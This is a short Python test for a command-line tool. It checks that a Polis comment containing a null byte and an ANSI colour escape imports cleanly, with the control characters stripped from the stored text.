def test_a_polis_comment_with_control_characters_is_imported_without_them(cli: Cli) -> None:
    folder = polis_folder(
        cli.folder, comments=[comment(**{"comment-body": "Cykel\x00stier \x1b[31m nu"})]
    )
    result = cli("import", "polis", str(folder), "--slug", "trafik")
    no_traceback(result)
    assert result.exit_code == 0, result.output
    assert asyncio.run(statement_texts(cli.database_url, "trafik")) == ["Cykelstier [31m nu"]
